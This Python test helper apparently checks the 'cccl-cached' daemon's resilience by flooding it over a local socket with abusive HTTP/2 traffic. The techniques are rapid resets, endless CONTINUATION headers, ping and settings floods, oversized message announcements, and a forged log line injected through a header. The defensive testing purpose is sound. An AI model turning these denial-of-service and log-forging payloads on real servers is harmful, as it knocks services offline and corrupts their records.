# SPDX-FileCopyrightText: the cccl-cached authors
# SPDX-License-Identifier: Apache-2.0
"""attacker.py SOCKET NAME floods the daemon as ATTACKER with frames outside of calls. Prints as JSON the bytes that
it sent, the number of its connections, and how many of them the daemon closed. Keeps the other connections open
until its standard input ends."""

import json
import struct
import subprocess
import sys
import time

from bystander import ATTACKER, become
from http2 import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RESET, SETTINGS, call_fields, connect, field, frame, integer,
    pour,
)

UNFINISHED = frame(HEADERS, 0, 1, b"\0" + integer(1, 7) + b"x" + integer(1 << 29, 7))


def open_to(path, count, first=b""):
    made = []
    for _ in range(count):
        made.append(connect(path))
        made[-1].sendall(first)
    return made


def unfinished_field(path):
    """Sends one endless field on many connections. gRPC would keep all of it."""
    connections = open_to(path, 100, UNFINISHED)
    return connections, pour(connections, [frame(CONTINUATION, 0, 1, b"a" * 16384)] * 128)


def small_fields(path):
    """Sends a header block with many complete fields and no end."""
    connections = open_to(path, 20, frame(HEADERS, 0, 1, call_fields()))
    return connections, pour(connections, [frame(CONTINUATION, 0, 1, field(b"x", b"y") * 2000)] * 500)


def empty_continuations(path):
    connections = open_to(path, 3, frame(HEADERS, 0, 1, call_fields()))
    return connections, pour(connections, [frame(CONTINUATION, 0, 1) * 1000] * 500)


def up_to_the_bound(path):
    """Sends as much of a field as an honest client may, on many connections that stay open."""
    begun = frame(HEADERS, 0, 1, b"\0" + integer(1, 7) + b"x" + integer(1 << 29, 7) + b"a" * 8000)
    connections = open_to(path, 300)
    return connections, pour(connections, [begun + frame(CONTINUATION, 0, 1, b"a" * 8000)])


def rapid_resets(first, count):
    """Cancels calls as soon as they are made."""
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, call_fields()) + frame(RESET, 0, stream, struct.pack(">I", 8))
        for stream in range(first, first + 2 * count, 2)
    )


def rapid_reset(path):
    connections = open_to(path, 1)
    return connections, pour(connections, [rapid_resets(1 + 200 * i, 100) for i in range(200)])


def rapid_reset_of_many(path):
    """Cancels calls on many connections, on each as many as the bound allows."""
    connections = open_to(path, 60)
    return connections, pour(connections, [rapid_resets(1 + 200 * i, 100) for i in range(19)])


def pings(path):
    """Sends pings and reads no answer."""
    connections = open_to(path, 3)
    return connections, pour(connections, [frame(PING, 0, 0, b"12345678") * 1000] * 500)


def settings(path):
    connections = open_to(path, 3)
    return connections, pour(connections, [frame(SETTINGS, 0, 0, b"\0\3\0\0\0\1") * 1000] * 500)


def again_and_again(path):
    """Reconnects for two seconds each time it is cut off."""
    connections, sent, closed = 0, 0, 0
    end = time.monotonic() + 2
    while time.monotonic() < end:
        try:
            (one,) = open_to(path, 1, UNFINISHED)
        except OSError:  # closed before the first frame
            closed += 1
        else:
            some, ended = pour([one], [frame(CONTINUATION, 0, 1, b"a" * 16384)] * 16)
            one.close()
            sent, closed = sent + some, closed + ended
        connections += 1
    return range(connections), (sent, closed)


def begun_message(size, path=b"/cccl_cache.v1.Build/Build"):
    """Begins a call that announces a message of this size."""
    return frame(HEADERS, END_HEADERS, 1, call_fields(**{":path": path})) + frame(
        DATA, 0, 1, b"\0" + struct.pack(">I", size))


def tiny_data(path):
    """Sends a message in frames of one byte, as much of it as the server's window allows."""
    connections = open_to(path, 100, begun_message(1 << 24))
    return connections, pour(connections, [frame(DATA, 0, 1, b"a") * 1000] * 65)


def tiny_messages(path):
    """Sends empty messages in frames of one byte, on a stream that allows many. A user may have 32 such streams."""
    many = frame(HEADERS, END_HEADERS, 1, call_fields(**{":path": b"/cccl_cache.v1.Build/BuildMany"}))
    connections = open_to(path, 30, many)
    return connections, pour(connections, [frame(DATA, 0, 1, b"\0") * 1000] * 65)


def long_announcement(path):
    """Announces a message of 3 GiB."""
    connections = open_to(path, 3, begun_message(3 << 30))
    return connections, pour(connections, [frame(DATA, 0, 1, b"a" * 16000)] * 200)


def unread_answers(path):
    """Makes calls that are answered at once, over connections that read nothing."""
    get = call_fields(**{":path": b"/cccl_cache.v1.Info/Get"})
    connections = open_to(path, 100)
    return connections, pour(connections, [
        b"".join(frame(HEADERS, END_HEADERS, stream, get) + frame(DATA, END_STREAM, stream, b"\0" * 5)
                 for stream in range(first, first + 200, 2))
        for first in range(1, 4001, 200)
    ])


def forged_lines(path):
    """Makes calls with a field that gRPC logs. The field looks like a line of the log."""
    fields = call_fields(te=b"x\n2026-11-23T00:40:00.000+00:00 warning build: FORGED \x1b[31mline")
    connections = open_to(path, 10)
    return connections, pour(
        connections, [frame(HEADERS, END_HEADERS | END_STREAM, stream, fields) for stream in range(1, 2001, 2)]
    )


def attack(daemon, name):
    """Runs an attack. Returns the attacker's output."""
    attacker = subprocess.Popen(
        [sys.executable, __file__, daemon.socket, name], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    done = json.loads(attacker.stdout.readline())
    attacker.communicate("")
    return done


if __name__ == "__main__":
    become(ATTACKER)
    made, (taken, cut) = globals()[sys.argv[2]](sys.argv[1])
    print(json.dumps({"connections": len(made), "sent": taken, "closed": cut}), flush=True)
    sys.stdin.read()
